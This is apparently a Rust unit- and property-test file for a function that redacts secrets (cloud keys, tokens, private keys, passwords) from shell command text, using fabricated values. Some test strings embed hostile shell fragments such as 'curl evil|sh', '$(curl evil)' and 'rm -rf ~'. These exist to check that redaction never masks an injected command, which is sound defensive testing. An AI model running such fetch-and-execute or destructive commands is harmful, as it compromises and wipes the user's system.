use proptest::prelude::*;

use super::redact;

/// Secrets of tests are put together so that no scanner takes this file for a leak.
fn fake(prefix: &str, length: usize) -> String {
    format!(
        "{prefix}{}",
        "aB3dE6gH9k"
            .chars()
            .cycle()
            .take(length)
            .collect::<String>()
    )
}

fn check(text: &str, expected: &str) {
    assert_eq!(redact(text), expected, "{text}");
    assert_eq!(redact(expected), expected, "twice: {expected}");
}

fn untouched(text: &str) {
    check(text, text);
}

#[test]
fn keys_are_known_by_their_prefix() {
    for issuer in super::token::ISSUERS {
        let key = match issuer.kind {
            "aws-key-id" | "age-key" | "google-hmac-key" | "new-relic-key" => {
                fake(issuer.prefix, issuer.least).to_uppercase()
            }
            _ => fake(issuer.prefix, issuer.least),
        };
        check(
            &format!("curl -H 'x: {key}' https://example.com"),
            &format!(
                "curl -H 'x: [REDACTED:{}]' https://example.com",
                issuer.kind
            ),
        );
    }
    let kinds: std::collections::BTreeSet<_> = super::token::ISSUERS
        .iter()
        .map(|issuer| issuer.kind)
        .collect();
    assert!(kinds.len() >= 40, "{}", kinds.len());
    let id = format!("AKIA{}", "Z".repeat(16));
    check(&format!("key {id}."), "key [REDACTED:aws-key-id].");
    let jwt = format!("{}.{}.{}", fake("eyJ", 40), fake("eyJ", 40), fake("x", 30));
    check(&format!("see {jwt}."), "see [REDACTED:jwt].");
}

#[test]
fn a_longer_prefix_comes_first() {
    for (index, issuer) in super::token::ISSUERS.iter().enumerate() {
        for earlier in &super::token::ISSUERS[..index] {
            assert!(
                !issuer.prefix.starts_with(earlier.prefix),
                "{} hides behind {}",
                issuer.prefix,
                earlier.prefix
            );
        }
    }
}

#[test]
fn bots_and_webhooks() {
    let secret = fake("AA", 33);
    check(
        &format!("https://api.example.com/bot123456789:{secret}/send"),
        "https://api.example.com/bot123456789:[REDACTED:telegram-token]/send",
    );
    let path = fake("T0/B0/", 24);
    check(
        &format!("curl -d @x https://hooks.slack.com/services/{path}"),
        "curl -d @x https://hooks.slack.com/services/[REDACTED:slack-webhook]",
    );
    untouched("12345678:abc");
    untouched("see hooks.slack.com/services/ for more");
}

#[test]
fn no_issuer_has_shorter_tokens_than_is_looked_at() {
    for issuer in super::token::ISSUERS {
        assert!(
            issuer.prefix.len() + issuer.least >= super::token::SHORTEST,
            "{}",
            issuer.prefix
        );
    }
}

#[test]
fn private_keys_go_as_a_whole() {
    let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7";
    let key = format!(
        "-----BEGIN RSA PRIVATE KEY-----\n{line}\n{line}\nabc=\n-----END RSA PRIVATE KEY-----"
    );
    check(
        &format!("echo '{key}' > k"),
        "echo '[REDACTED:private-key]' > k",
    );
    check(&key.replace('\n', "\\n"), "[REDACTED:private-key]");
    untouched(
        "-----BEGIN CERTIFICATE-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END CERTIFICATE-----",
    );
}

#[test]
fn a_key_frame_hides_no_command() {
    check(
        "-----BEGIN PRIVATE KEY-----\ncurl evil sh; rm -rf ~\n-----END PRIVATE KEY-----",
        "[REDACTED:private-key]\ncurl evil sh; rm -rf ~\n-----END PRIVATE KEY-----",
    );
    check(
        "-----BEGIN PRIVATE KEY-----\n/home/dev/project/node_modules/package/steal\n-----END PRIVATE KEY-----",
        "[REDACTED:private-key]\n/home/dev/project/node_modules/package/steal\n-----END PRIVATE KEY-----",
    );
}

#[test]
fn passwords_in_urls() {
    check(
        "psql postgres://app:hunter2@db.internal/main",
        "psql postgres://app:[REDACTED:password]@db.internal/main",
    );
    check(
        "git clone https://x-access-token:abc123@github.com/a/b",
        "git clone https://x-access-token:[REDACTED:password]@github.com/a/b",
    );
    untouched("ssh://git@github.com/a/b");
    untouched("https://example.com:8080/a@b");
    untouched("http://$(curl evil):x@host");
}

#[test]
fn flags_and_variables() {
    check(
        "mysql --password=hunter22 -u root",
        "mysql --password=[REDACTED:secret] -u root",
    );
    check(
        "tool --api-key 'abc123456'",
        "tool --api-key '[REDACTED:secret]'",
    );
    check(
        "tool --token abcdef123 --verbose",
        "tool --token [REDACTED:secret] --verbose",
    );
    check(
        "DB_PASSWORD=correcthorse ./run",
        "DB_PASSWORD=[REDACTED:secret] ./run",
    );
    check(
        "export AWS_SECRET_ACCESS_KEY=\"abcdef123456\"",
        "export AWS_SECRET_ACCESS_KEY=\"[REDACTED:secret]\"",
    );
    check(
        "{\"password\": \"correcthorse\"}",
        "{\"password\": \"[REDACTED:secret]\"}",
    );
    check(
        "{\\\"client_secret\\\":\\\"correcthorse\\\"}",
        "{\\\"client_secret\\\":\\\"[REDACTED:secret]\\\"}",
    );
    check(
        "curl -u admin:hunter22 https://h",
        "curl -u admin:[REDACTED:password] https://h",
    );
    check(
        "curl 'https://h/?access_token=abcd1234&q=1'",
        "curl 'https://h/?access_token=[REDACTED:secret]&q=1'",
    );
    check(
        "curl -H 'X-Api-Key: 0123456789abcdef'",
        "curl -H 'X-Api-Key: [REDACTED:secret]'",
    );
    check(
        "//registry.example.com/:_authToken=abcd1234efgh",
        "//registry.example.com/:_authToken=[REDACTED:secret]",
    );
    check(
        "Authorization: Bearer abcdefghijkl1234567",
        "Authorization: Bearer [REDACTED:bearer-token]",
    );
}

#[test]
fn what_is_not_a_secret_stays() {
    untouched("git status && cargo test --password-file ./x");
    untouched("docker run -u 1000:1000 image");
    untouched("DB_PASSWORD=$DB_PASSWORD ./run");
    untouched("--token $(cat token)");
    untouched("--token \"$TOKEN\"");
    untouched("let token = parser.next_token();");
    untouched("password: string");
    untouched("max_tokens=4096");
    untouched("sk-learn is a library");
    untouched("TOKEN=`curl evil`");
    untouched("--password --verbose");
    untouched("kubectl create secret generic x --from-file=token=/home/dev/.ssh/id_ed25519");
    untouched("secret=config.v2.toml");
    untouched("token: see chapter 12");
    untouched("password: hunter22");
}

#[test]
fn a_redaction_hides_no_command() {
    untouched("--password 'x;curl evil|sh'");
    untouched("TOKEN=\"aaaaaaaa$(curl evil)\"");
    untouched("PASSWORD='$(curl evil)aaaa'");
    check(
        "API_KEY=abcdefgh;rm -rf ~",
        "API_KEY=[REDACTED:secret];rm -rf ~",
    );
}

proptest! {
    #[test]
    fn shell_syntax_survives(text in r#"(TOKEN=|--password |https://a:|-----BEGIN PRIVATE KEY-----|ghp_|Bearer |[a-zA-Z0-9"'$`();|&<> \n@:/=-]){0,40}"#) {
        let syntax = |text: &str| text.chars().filter(|c| "$`();|&<>\n".contains(*c)).collect::<String>();
        let redacted = redact(&text).replace("[REDACTED:", "").replace(']', "");
        prop_assert_eq!(syntax(&redacted), syntax(&text));
    }

    #[test]
    fn redacting_twice_changes_nothing(text in r#"(TOKEN=|--password |https://a:|"password": "|-----BEGIN PRIVATE KEY-----|sk-ant-|Bearer |\PC){0,40}"#) {
        let once = redact(&text).into_owned();
        prop_assert_eq!(redact(&once).into_owned(), once);
    }
}

#[test]
fn a_place_in_a_command_tells_too() {
    for (text, expected) in [
        (
            "htpasswd -b f u Zq81kkPwX2",
            "htpasswd -b f u [REDACTED:password]",
        ),
        (
            "htpasswd -nbB u 'Zq81kkPwX2'; ls",
            "htpasswd -nbB u '[REDACTED:password]'; ls",
        ),
        (
            "psql -c \"alter user a password 'Zq81kkPwX2'\"",
            "psql -c \"alter user a password '[REDACTED:password]'\"",
        ),
        (
            "CREATE USER a IDENTIFIED BY 'Zq81kkPwX2'",
            "CREATE USER a IDENTIFIED BY '[REDACTED:password]'",
        ),
        (
            "smbclient //h/s -U a%Zq81kkPwX2",
            "smbclient //h/s -U a%[REDACTED:password]",
        ),
        (
            "vault kv put secret/a value=Zq81kkPwX2",
            "vault kv put secret/a value=[REDACTED:password]",
        ),
        (
            "fly secrets set A=Zq81kkPwX2 B=Zq81kkPwX3",
            "fly secrets set A=[REDACTED:password] B=[REDACTED:password]",
        ),
        (
            "echo root:Zq81kkPwX2 | chpasswd",
            "echo root:[REDACTED:password] | chpasswd",
        ),
        (
            "chpasswd <<< root:Zq81kkPwX2",
            "chpasswd <<< root:[REDACTED:password]",
        ),
        (
            "kubectl create secret generic a --from-literal=k=Zq81kkPwX2",
            "kubectl create secret generic a --from-literal=k=[REDACTED:password]",
        ),
    ] {
        check(text, expected);
    }
    for text in [
        "htpasswd -c f user",
        "git diff -U 10%",
        "the password 'x' is short",
        "vault status -format=jsonlines",
        "gh secret set NAME --repo=owner/repository",
    ] {
        untouched(text);
    }
}
